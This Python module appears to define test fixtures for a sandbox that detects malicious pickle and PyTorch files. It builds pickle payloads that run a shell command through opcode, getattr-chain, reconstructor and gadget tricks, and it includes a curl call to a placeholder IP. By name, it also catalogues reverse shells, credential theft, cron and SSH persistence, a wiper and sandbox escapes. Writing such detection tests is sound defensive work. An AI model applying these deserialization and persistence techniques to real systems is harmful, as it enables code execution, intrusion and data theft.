"""Malicious files: real in technique, harmless in effect, for the tests that open them in a jail.

Never load one outside a jail, not even to try. Each states what must come out of it.
"""

from __future__ import annotations

from functools import partial

from sandbox.facts import Verdict
from tests.malicious import sources
from tests.malicious.fixture import CALLED, PASSED, TORCH, Fixture, direct, sets, source, writes
from tests.malicious.gadgets import GADGETS
from tests.malicious.pickles import (
    Opcodes,
    amplification,
    bare,
    call,
    called,
    class_patch,
    code_object,
    dotted_name,
    literal,
    memo_shuffle,
    named,
    payload_then_broken,
    polyglot,
    run,
    stream,
    torch_legacy,
    torch_zip,
)

SYSTEM = call("posix", "system", "id")
_POPEN = named("subprocess", "Popen")
_MODULES = call("builtins", "getattr", named("_collections_abc", "sys"), "modules")
_OS = called(call("builtins", "getattr", _MODULES, "get"), "posix")
_GADGET = call("smolagents.local_python_executor", "evaluate_python_code", "import os; os.system('id')")

OPCODES = (
    direct("os_system", "a shell command", SYSTEM),
    direct(
        "subprocess_popen", "a program by its arguments", call("subprocess", "Popen", ["curl", "http://203.0.113.7"])
    ),
    direct("instance_opcode", "the INST opcode", Opcodes(b"(" + literal("id") + b"iposix\nsystem\n")),
    direct("object_opcode", "the OBJ opcode", Opcodes(b"(" + named("posix", "system") + literal("id") + b"o")),
    direct("nested_pickle", "a pickle within the pickle", call("pickle", "loads", stream(SYSTEM))),
    direct(
        "getattr_chain",
        "names that are never spelled: getattr upon getattr",
        called(call("builtins", "getattr", _OS, "system"), "id"),
        sets("global.resolver.machinery"),
    ),
    direct(
        "partial", "a partial, called", called(call("functools", "partial", named("posix", "system"), "id")), PASSED
    ),
    direct(
        "map",
        "a lazy map, made a list",
        call("builtins", "list", call("builtins", "map", named("posix", "system"), ["id"])),
        PASSED,
    ),
    direct(
        "reconstructor",
        "copyreg._reconstructor runs the initialiser of the base it is given",
        call("copyreg", "_reconstructor", _POPEN, _POPEN, ["id"]),
        PASSED,
    ),
    direct(
        "code_object",
        "compiled code, brought along",
        code_object("import os\nos.system('id')"),
        needs=frozenset({"python"}),
    ),
    Fixture(
        "dotted_name",
        "a dangerous name reached through a harmless module",
        dotted_name,
        sets("process.exec"),
        CALLED,
        CALLED,
    ),
    Fixture(
        "memo_shuffle",
        "a name from the memo, past decoys on the stack",
        memo_shuffle,
        sets("process.exec"),
        CALLED,
        CALLED,
    ),
    Fixture(
        "payload_then_broken",
        "a stream that breaks after the payload",
        payload_then_broken,
        sets("process.exec"),
        CALLED + sets("load.failed"),
        CALLED + sets("reader.incomplete"),
    ),
    Fixture(
        "absent_gadget",
        "a known gadget of a package that isn't installed",
        partial(bare, _GADGET),
        (),
        CALLED + sets("absent"),
        CALLED,
    ),
    Fixture(
        "class_patch",
        "BUILD on a class and not on an object of it",
        class_patch,
        (),
        sets("oddity.patch"),
        sets("oddity.patch"),
        Verdict.SUSPICIOUS,
    ),
)

NETWORK = (
    source(
        "reverse_shell",
        "socket, connect, dup2, a shell",
        sources.REVERSE_SHELL,
        sets("net.connect", "process.exec"),
        sets("event.connect", "event.program"),
    ),
    source(
        "dns", "a secret as a name that is looked up", sources.DNS, sets("net.dns"), sets("event.dns", "decoy.sent")
    ),
    source("stage_two", "fetch and execute", sources.STAGE_TWO, sets("net.connect"), sets("event.connect")),
    source("udp", "datagrams without a connection", sources.UDP, sets("net.send"), sets("event.send")),
    source("listen", "waits for connections", sources.LISTEN, sets("net.listen"), sets("event.listen")),
    source(
        "metadata", "the cloud's credentials", sources.METADATA, sets("net.connect"), sets("event.connect.metadata")
    ),
    source(
        "odd_sockets",
        "netlink, packet, vsock, alg",
        sources.ODD_SOCKETS,
        sets("net.socket"),
        sets("event.socket.raw"),
    ),
    source(
        "event_flood", "100,000 connects", sources.FLOOD, sets("net.connect"), sets("event.connect", "watch.dropped")
    ),
)

FILES = (
    source(
        "credentials",
        "reads keys from the home and sends them",
        sources.CREDENTIALS,
        sets("decoy.read", "net.send", "net.connect"),
        sets("event.decoy", "decoy.sent"),
    ),
    source("environment", "prints the environment's secrets", sources.ENVIRONMENT, (), sets("decoy.printed")),
    source(
        "argv_theft", "a secret as a program's argument", sources.ARGV_THEFT, sets("process.exec"), sets("decoy.sent")
    ),
    writes("authorized_keys", "lets itself in by SSH", "~/.ssh/authorized_keys"),
    writes("cron", "runs again by cron", "/var/spool/cron/crontabs/user", "/etc/cron.d/update"),
    writes("sitecustomize", "runs again with Python", "~/.local/lib/python3.11/site-packages/sitecustomize.py"),
    source(
        "wiper",
        "deletes, renames, locks files of the home",
        sources.WIPER,
        sets("file.delete", "file.rename", "file.chmod"),
        sets("event.destroy event.persistence"),
    ),
)

LATER = (
    source(
        "late_thread", "a thread acts after the load", sources.LATE_THREAD, sets("net.connect"), sets("event.connect")
    ),
    source(
        "endless_thread",
        "a thread never ends",
        sources.ENDLESS_THREAD,
        (),
        sets("event.leftover load.leftover"),
    ),
    source("atexit", "acts when the process exits", sources.ATEXIT, sets("process.exec"), sets("event.program")),
    source(
        "finalizer",
        "acts when an object dies",
        sources.FINALIZER,
        sets("process.exec"),
        sets("event.program"),
    ),
    source(
        "long_sleep",
        "sleeps an hour, then acts",
        sources.LONG_SLEEP,
        sets("time.sleep", "process.exec"),
        sets("event.sleep.long", "event.program"),
    ),
    source("exit", "ends the process before its end is seen", sources.EXIT, (), sets("load.vanished")),
)

SYSTEM_CALLS = (
    source("fork", "a process of its own", sources.FORK, sets("process.fork"), sets("event.fork")),
    source(
        "memfd",
        "a program that is only in memory",
        sources.MEMFD,
        sets("memory.memfd", "process.exec"),
        sets("event.memory.file", "event.program"),
    ),
    source(
        "attack_pid_1",
        "signals and traces the watch",
        sources.ATTACK_PID_1,
        sets("signal.send", "process.trace"),
        sets("event.signal"),
    ),
    source(
        "read_pid_1",
        "reads the watch's memory",
        sources.READ_PID_1,
        sets("watch.tamper"),
        sets("event.tamper"),
    ),
    source("second_filter", "blinds the watch", sources.SECOND_FILTER, sets("watch.tamper"), sets("event.tamper")),
    source(
        "foreign_call",
        "machine code that calls the kernel as i386 does",
        sources.FOREIGN_CALL,
        sets("memory.exec"),
        sets("event.memory.code event.foreign"),
    ),
    source(
        "io_uring",
        "calls that no filter sees",
        sources.IO_URING,
        sets("escape.io_uring"),
        sets("event.escape"),
    ),
    source(
        "escape",
        "namespaces, mounts, bpf, keys, other users",
        sources.ESCAPE,
        sets("escape.namespace", "escape.mount", "escape.bpf", "escape.keyring", "privilege"),
        sets("event.escape", "event.privilege"),
    ),
)

CONTAINERS = (
    Fixture(
        "torch_zip",
        "a shell command in a PyTorch archive",
        partial(torch_zip, SYSTEM),
        sets("process.exec"),
        sets("event.program") + CALLED,
        CALLED,
        suffix=".pt",
        needs=TORCH,
    ),
    Fixture(
        "torch_legacy",
        "a shell command in PyTorch's old format",
        partial(torch_legacy, SYSTEM),
        sets("process.exec"),
        sets("event.program") + CALLED,
        CALLED,
        suffix=".pth",
        needs=TORCH,
    ),
    Fixture(
        "sleepy",
        "weights changed in place, without one call",
        partial(torch_zip, run(sources.SLEEPY)),
        (),
        sets("weights.differ") + CALLED,
        CALLED,
        suffix=".pt",
        needs=TORCH,
    ),
    Fixture(
        "polyglot",
        "a pickle from the front, a PyTorch archive from the back",
        polyglot,
        sets("process.exec"),
        sets("format.polyglot") + CALLED,
        sets("format.polyglot") + CALLED,
        suffix=".pt",
        needs=TORCH,
    ),
    Fixture(
        "amplification",
        "4 MB that ask for terabytes",
        amplification,
        (),
        sets("host.plan oddity.limit reader.incomplete"),
        sets("host.plan oddity.limit reader.incomplete"),
        Verdict.INCONCLUSIVE,
        suffix=".pt",
        needs=TORCH,
    ),
)

__all__ = ["FIXTURES", "Fixture"]

FIXTURES: tuple[Fixture, ...] = OPCODES + NETWORK + FILES + LATER + SYSTEM_CALLS + CONTAINERS + GADGETS
